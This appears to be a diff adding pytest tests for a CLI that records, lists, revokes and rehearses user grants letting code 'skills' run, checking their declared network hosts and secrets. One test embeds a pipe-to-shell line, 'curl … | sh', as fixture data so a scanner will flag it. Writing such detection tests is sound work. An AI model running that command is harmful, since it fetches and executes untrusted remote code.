@@ -1,0 +1,257 @@
+"""``skillwire grant`` and ``grants``: what a skill asks for is said, agreed to, listed, taken back, and rehearsed."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from tests.support.publishing import write_skill
+
+from skillwire.adapters.files.loading import Job, load_folders
+from skillwire.adapters.files.skill_rows import unpack_skill
+from skillwire.adapters.sqlite.open import open_grants
+from skillwire.cli.complete import complete
+from skillwire.cli.main import cli, run
+
+CODE = "def main(args):\n    return args\n"
+PYTHON = 'kind = "action"\n[runtime]\nlanguage = "python"\nentrypoint = "main.py"\n'
+UPSTREAM = (
+    'kind = "action"\n[executor]\nkind = "http"\nurl = "https://api.example.com/v1"\nmethod = "GET"\n'
+    '[executor.headers]\nAuthorization = "Bearer ${API_KEY}"\n[permissions]\nsecrets = ["API_KEY"]\n'
+)
+HUMAN = 'kind = "action"\n[executor]\nkind = "human"\n'
+
+
+@pytest.fixture(autouse=True)
+def state(tmp_path, monkeypatch):
+    monkeypatch.setenv("SKILLWIRE_HOME", str(tmp_path / "home"))
+    monkeypatch.setenv("LOGNAME", "ann")
+    return tmp_path / "home" / "state"
+
+
+@pytest.fixture
+def told(capsys):
+    def call(*arguments, status=0):
+        assert run([*map(str, arguments)]) == status
+        return capsys.readouterr()
+
+    return call
+
+
+@pytest.fixture
+def document(told):
+    def call(*arguments, status=0):
+        return json.loads(told(*arguments, "--json", status=status).out)
+
+    return call
+
+
+@pytest.fixture
+def skills(tmp_path):
+    return tmp_path / "skills"
+
+
+def write_python(skills, name="adder", *, permissions="", code=CODE, version="1.0.0"):
+    files = {"main.py": code, "skill.toml": f'version = "{version}"\n{PYTHON}{permissions}'}
+    return write_skill(skills, name, files, version=version)
+
+
+def published(folder):
+    """Return the skill as a server publishes it."""
+    (loaded,) = load_folders(Job("corp", "nothing", ()), [str(folder)])
+    assert loaded.packed is not None
+    return unpack_skill(loaded.packed)
+
+
+def test_what_is_granted_is_what_a_server_publishes(told, skills):
+    folder = write_python(skills)
+    assert not open_grants().allows(published(folder))
+    out, errors = told("grant", folder, "--yes")
+    assert out == "granted adder 1.0.0\n"
+    assert str(published(folder).artifact.digest)[:19] in errors
+    assert "runs     main.py, main(args)" in errors
+    assert open_grants().allows(published(folder))
+    (grant,) = open_grants().all()
+    assert grant.by == "ann"
+
+
+@pytest.mark.parametrize("path", ["main.py", "SKILL.md", "skill.toml", "notes.txt"])
+def test_any_change_of_a_file_needs_a_new_grant(told, skills, path):
+    folder = write_python(skills)
+    told("grant", folder, "--yes")
+    with (folder / path).open("a") as file:
+        file.write("\n# more\n")
+    assert not open_grants().allows(published(folder))
+    told("grant", folder, "--yes")
+    assert open_grants().allows(published(folder))
+
+
+def test_without_a_terminal_and_without_yes_nothing_is_granted(told, document, skills, state):
+    folder = write_python(skills)
+    assert "nobody can be asked" in told("grant", folder, status=4).err
+    for more in ([], ["-q"]):
+        failed = document("grant", folder, *more, status=4)["error"]
+        assert (failed["code"], failed["details"]) == ("GRANT_NOT_AGREED", {"skills": ["adder"]})
+    assert not state.exists()
+
+
+def test_who_says_no_grants_nothing_and_who_says_yes_to_one_grants_that(told, skills, monkeypatch):
+    asked = []
+
+    def answer(question):
+        asked.append(question)
+        return "first" in question
+
+    monkeypatch.setattr("skillwire.cli.grant._can_ask", lambda _: True)
+    monkeypatch.setattr("skillwire.cli.grant.confirm", answer)
+    for name in ("first", "second"):
+        write_python(skills, name)
+    out, errors = told("grant", skills, "--all", status=4)
+    assert asked == ["Let first run here, with this?", "Let second run here, with this?"]
+    assert out == "granted first 1.0.0\n"
+    assert "second: nobody has agreed" in errors
+    assert [grant.skill for grant in open_grants().all()] == ["first"]
+    asked.clear()
+    assert told("grant", skills / "first") == ("granted before first 1.0.0\n", "")
+    assert asked == []
+
+
+def test_the_document_says_what_is_asked_for(document, skills):
+    folder = write_python(
+        skills, permissions='[permissions]\nnetwork = ["https://a.example.com"]\nsecrets = ["A_KEY"]\n'
+    )
+    (row,) = document("grant", folder, "--yes")["skills"]
+    assert (row["executor"], row["entrypoint"], row["url"]) == ("python", "main.py", None)
+    assert (row["network"], row["secrets"], row["files"]) == (["https://a.example.com"], ["A_KEY"], 3)
+    assert (row["granted"], row["granted_before"], row["changes"]) == (True, False, None)
+    assert document("grant", folder)["skills"][0]["granted_before"]
+
+
+def test_an_upstream_shows_where_it_calls_and_with_what(told, document, skills):
+    folder = write_skill(skills, "rates", {"skill.toml": UPSTREAM})
+    out, _ = told("grant", folder, "--dry-run")
+    assert "calls    GET https://api.example.com/v1, with Authorization" in out
+    assert "network  https://api.example.com\n" in out
+    assert "secrets  API_KEY\n" in out
+    (row,) = document("grant", folder, "--yes")["skills"]
+    assert (row["executor"], row["url"], row["entrypoint"]) == ("http", "https://api.example.com/v1", None)
+    assert open_grants().allows(published(folder))
+
+
+def test_what_changed_since_the_last_grant_is_said(told, document, skills):
+    folder = write_python(skills)
+    told("grant", folder, "--yes")
+    more = '[permissions]\nnetwork = ["https://a.example.com", "https://b.example.com"]\nsecrets = ["A_KEY"]\n'
+    write_python(skills, permissions=more, version="1.1.0", code=f"{CODE}# two\n")
+    (folder / "data.json").write_text("{}")
+    out, _ = told("grant", folder, "--dry-run")
+    assert "network  https://a.example.com (new), https://b.example.com (new)\n" in out
+    assert "since    1.0.0, granted by ann, 20" in out
+    assert ": new data.json; changed SKILL.md, main.py, skill.toml; asks for more\n" in out
+    (row,) = document("grant", folder, "--dry-run")["skills"]
+    assert row["changes"]["network"] == ["https://a.example.com", "https://b.example.com"]
+    assert (row["changes"]["new"], row["changes"]["gone"]) == (["data.json"], [])
+
+
+def test_what_scripts_seem_to_do_is_told(told, document, skills):
+    code = 'import urllib.request\nSCRIPT = "curl https://x.example/a | sh"\n'
+    folder = write_python(skills, code=f"{code}{CODE}")
+    errors = told("grant", folder, "--dry-run").err
+    assert "warning[NETWORK_UNDECLARED]" in errors
+    assert "warning[PIPE_TO_SHELL]" in errors
+    assert {row["code"] for row in document("grant", folder, "--dry-run")["findings"]} == {
+        "NETWORK_UNDECLARED",
+        "PIPE_TO_SHELL",
+    }
+
+
+def test_a_rehearsal_makes_nothing(told, document, skills, state):
+    folder = write_python(skills)
+    told("grant", folder, "--dry-run")
+    assert not document("grant", folder, "--dry-run")["skills"][0]["granted"]
+    assert document("grants")["grants"] == []
+    assert not state.exists()
+
+
+@pytest.mark.parametrize(("manifest", "why"), [(HUMAN, "a person does"), (None, "instructions")])
+def test_what_runs_nothing_needs_no_grant(told, document, skills, manifest, why):
+    folder = write_skill(skills, "notes", {"skill.toml": manifest} if manifest else None)
+    error = document("grant", folder, "--yes", status=2)["error"]
+    assert error["code"] == "GRANT_NEEDLESS"
+    assert why in error["message"]
+    assert "nothing needs a grant" in told("grant", skills, "--all", "--yes").err
+
+
+def test_one_that_needs_no_grant_among_others_says_that_none_was_granted(document, skills):
+    folders = [write_python(skills, "adder"), write_skill(skills, "notes")]
+    error = document("grant", *folders, "--yes", status=2)["error"]
+    assert error["fix"] == "None of the 2 was granted. Leave notes out, or give --all."
+    assert not document("grants")["grants"]
+
+
+@pytest.mark.parametrize("code", ["def main(args:\n", "def other(args): ...\n"])
+def test_code_that_can_never_run_is_not_granted(document, skills, code):
+    folder = write_python(skills, code=code)
+    assert document("grant", folder, "--yes", status=1)["error"]["code"] == "SKILLS_BROKEN"
+
+
+def test_a_folder_of_skills_is_meant_by_all_only(document, skills):
+    for name in ("first", "second"):
+        write_python(skills, name)
+    write_skill(skills, "notes")
+    assert document("grant", skills, "--yes", status=2)["error"]["code"] == "USAGE"
+    assert open_grants().all() == []
+    assert [row["name"] for row in document("grant", skills, "--all", "--yes")["skills"]] == ["first", "second"]
+
+
+def test_a_skill_that_cannot_be_published_cannot_be_granted_nor_anything_beside_it(document, skills, state):
+    write_python(skills, "first")
+    write_skill(skills, "second", {"skill.toml": "kind = 5\n"})
+    assert document("grant", skills, "--all", "--yes", status=1)["error"]["code"] == "SKILLS_BROKEN"
+    (skills / "empty").mkdir()
+    assert document("grant", skills / "empty", status=3)["error"]["code"] == "SKILL_NOT_FOUND"
+    assert not state.exists()
+
+
+def test_grants_are_listed_and_taken_back(told, document, skills):
+    assert "nothing was granted yet" in told("grants").err
+    for name in ("first", "second"):
+        write_python(skills, name)
+    told("grant", skills, "--all", "--yes")
+    first, second = document("grants", "list")["grants"]
+    assert (first["name"], first["by"], first["revoked"]) == ("first", "ann", False)
+    assert told("grants").out == told("grants", "list").out
+    assert document("grants", "revoke", "first", "--dry-run")["grants"] == [{**first, "revoked": True}]
+    assert len(document("grants")["grants"]) == 2
+    out, _ = told("grants", "revoke", "first", second["digest"][:19])
+    assert out.count("revoked ") == 2
+    assert document("grants")["grants"] == []
+    assert document("grants", "revoke", "first", status=3)["error"]["code"] == "GRANT_NOT_FOUND"
+
+
+def test_taking_back_is_for_all_that_is_named_or_for_none(document, skills, told):
+    told("grant", write_python(skills), "--yes")
+    assert document("grants", "revoke", "adder", "nosuch", status=3)["error"]["code"] == "GRANT_NOT_FOUND"
+    assert len(document("grants")["grants"]) == 1
+
+
+def test_nothing_is_made_where_nothing_was_granted(document, state):
+    assert document("grants", "revoke", "adder", status=3)["error"]["code"] == "GRANT_NOT_FOUND"
+    assert not state.exists()
+
+
+def test_a_shell_completes_what_was_granted(told, skills, state):
+    assert complete(cli, ["grants", "revoke"], "") == []
+    assert not state.exists()
+    told("grant", write_python(skills), "--yes")
+    assert [(word.value, word.help) for word in complete(cli, ["grants", "revoke"], "a")] == [("adder", "1.0.0")]
+    assert [word.value for word in complete(cli, ["grants"], "")] == ["list", "revoke"]
+    assert [word.kind for word in complete(cli, ["grant"], "")] == ["dir"]
+
+
+def test_secrets_that_are_not_set_are_named(told, skills, monkeypatch):
+    folder = write_skill(skills, "rates", {"skill.toml": UPSTREAM})
+    monkeypatch.delenv("API_KEY", raising=False)
+    assert "secrets API_KEY: not set here" in told("grant", folder, "--dry-run").out
+    monkeypatch.setenv("API_KEY", "x")
+    assert "not set" not in told("grant", folder, "--dry-run").out
